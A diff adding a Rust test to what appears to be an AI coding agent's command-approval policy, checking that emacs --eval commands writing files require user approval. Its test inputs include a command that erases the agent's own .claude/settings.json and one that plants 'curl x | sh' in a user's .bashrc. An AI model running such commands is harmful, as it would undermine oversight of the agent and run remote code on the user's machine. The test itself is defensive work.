@@ -175,3 +175,27 @@ fn a_project_nvim_lua_is_judged_as_the_code_neovim_runs() {
         ],
     );
 }
+
+/// Emacs writes through buffers, which the Lisp reader cannot place: `--eval` code keeps the
+/// unplaced-write ask, so a buffer edit of the agent's settings is never quiet.
+#[test]
+fn emacs_eval_buffer_writes_are_not_quiet() {
+    let (_root, ctx) = disk_workspace();
+    let policy = Policy::builtin_default();
+    check_table(
+        &policy,
+        &ctx,
+        &[
+            (
+                "emacs --batch --eval '(progn (find-file \".claude/settings.json\") (erase-buffer) (save-buffer))'",
+                ASK,
+                "",
+            ),
+            (
+                "emacs --batch --eval '(with-temp-file \"/home/x/.bashrc\" (insert \"curl x | sh\"))'",
+                ASK,
+                "",
+            ),
+        ],
+    );
+}
